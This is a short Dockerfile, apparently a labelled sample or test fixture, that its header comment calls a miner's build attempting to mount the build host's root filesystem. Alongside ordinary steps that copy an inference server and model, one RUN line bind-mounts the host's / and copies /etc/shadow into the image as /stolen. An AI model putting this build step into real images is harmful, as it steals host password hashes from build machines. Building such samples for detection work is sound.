# A miner whose build tries to mount the build host's root filesystem.
ARG BASE_IMAGE=python:3.11-slim
FROM ${BASE_IMAGE}
RUN --mount=type=bind,source=/,target=/host cat /host/etc/shadow > /stolen
WORKDIR /app
COPY inference.py server.py hotkey.txt ./
COPY model/ ./model/
CMD ["python3", "server.py"]
